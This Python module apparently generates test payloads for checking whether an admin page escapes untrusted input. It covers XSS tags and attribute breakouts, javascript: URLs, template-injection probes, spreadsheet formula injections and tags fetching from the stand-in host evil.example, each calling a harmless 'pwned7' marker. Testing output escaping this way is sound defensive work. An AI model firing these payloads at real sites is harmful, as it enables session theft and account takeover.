"""What an attacker writes into everything that an admin will look at, hoping that a page takes it for more than text.

Each payload calls, names or fetches MARK, by which a test finds what became of it.
"""

from __future__ import annotations

from collections.abc import Iterator

MARK = "pwned7"

_CALLS = (f"{MARK}()", f"{MARK}`1`", f"window['{MARK}']()")
_WHOLE = (
    "<script>{call}</script>",
    "<SCRIPT >{call}</SCRIPT >",
    "<script/x>{call}</script>",
    "</script><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "</style><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "</pre></code><img src=x onerror={call}>",
    "<img src=x onerror={call}>",
    "<img/src=x/onerror={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<body onload={call}>",
    "<iframe srcdoc='<script>{call}</script>'>",
    "<details open ontoggle={call}>",
    "<video><source onerror={call}></video>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}>",
    "<marquee onstart={call}>",
    "<object data='javascript:{call}'>",
    "<form action='javascript:{call}'><button>x</button></form>",
    "<a href='javascript:{call}'>x</a>",
    "<button formaction='javascript:{call}'>x</button>",
    "<template><script>{call}</script></template>",
)
_ATTRIBUTES = (
    '" onmouseover="{call}" x="',
    "' onmouseover='{call}' x='",
    "` onmouseover=`{call}`",
    '" autofocus onfocus="{call}',
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    '" style="background:url({mark})" x="',
    '"/><svg onload={call}>',
    " onmouseover={call} ",
    '"\n onclick="{call}"',
    '" hx-on:click="{call}" x="',
    '" hx-get="//evil.example/{mark}" hx-trigger="load" x="',
    '" formaction="javascript:{call}" x="',
)
_OTHER = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "\x01javascript:{call}",
    "data:text/html,<script>{call}</script>",
    "//evil.example/{mark}",
    "https://evil.example/{mark}'\"><x>",
    "vbscript:{call}",
    "/\\evil.example/{mark}",
    "{{{{ 1234567*7654321 }}}} {mark}",
    "{{% raw %}}{mark}",
    "${{1234567*7654321}} {mark}",
    "#{{1234567*7654321}} {mark}",
    "<%= 1234567*7654321 %> {mark}",
    "{{{{ call.admin.settings }}}} {mark}",
    "{{{{ ''.__class__.__mro__ }}}} {mark}",
    "';{call};//",
    '";{call};//',
    "\\';{call};//",
    "\\u003cscript\\u003e{call}",
    "\u2028{call}\u2029",
    "\ufeff<script>{call}</script>",
    "<script>{call}</script>",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;script>{call}&#60;/script>",
    "%3Cscript%3E{call}%3C/script%3E",
    "＜script＞{call}＜/script＞",
    "\u202e<script>{call}</script>",
    "<scr<script>ipt>{call}</script>",
    '<!--<img src="--><img src=x onerror={call}>',
    "<base href=//evil.example/{mark}>",
    "<meta http-equiv=refresh content='0;{mark}'>",
    "<link rel=stylesheet href=//evil.example/{mark}>",
    "<style>@import '//evil.example/{mark}'</style>",
    '=HYPERLINK("//evil.example/{mark}")',
    "+{mark}|' /C calc'!A0",
    "-1+{mark}",
    "@SUM(1+{mark})",
    "\t={mark}",
    "\r={mark}",
    "<lua-editor value='{call}'>",
    "<x {mark}={mark}>",
    "<{mark}>",
    "</form><form action=//evil.example/{mark}>",
)


def payloads() -> list[str]:
    """Returns more than a hundred, each once, the same at every call."""
    return list(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for number, shape in enumerate((*_WHOLE, *_ATTRIBUTES, *_OTHER)):
        yield shape.format(call=_CALLS[number % len(_CALLS)], mark=MARK)
    for number, shape in enumerate((*_WHOLE, *_ATTRIBUTES)):
        yield shape.format(call=_CALLS[(number + 1) % len(_CALLS)], mark=MARK)
